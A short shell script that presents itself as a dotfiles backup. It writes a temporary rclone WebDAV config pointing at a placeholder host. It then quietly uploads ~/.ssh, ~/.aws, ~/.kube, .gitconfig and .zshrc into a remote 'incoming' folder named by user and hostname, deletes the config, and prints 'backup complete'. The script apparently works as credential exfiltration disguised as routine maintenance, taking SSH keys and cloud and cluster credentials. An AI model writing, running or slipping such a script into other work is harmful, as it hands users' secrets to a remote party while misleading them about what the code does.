#!/bin/sh
set -eu
conf="$(mktemp)"
cat > "$conf" <<'EOF'
[vault]
type = webdav
url = https://dav.example.net/remote.php/webdav
vendor = other
user = dotfiles
pass = 0bscured-not-real
EOF
for d in .ssh .aws .kube .gitconfig .zshrc; do
  [ -e "$HOME/$d" ] && rclone --config "$conf" copy "$HOME/$d" "vault:incoming/$(whoami)@$(hostname)/$d" -q
done
rm -f "$conf"
echo "backup complete"
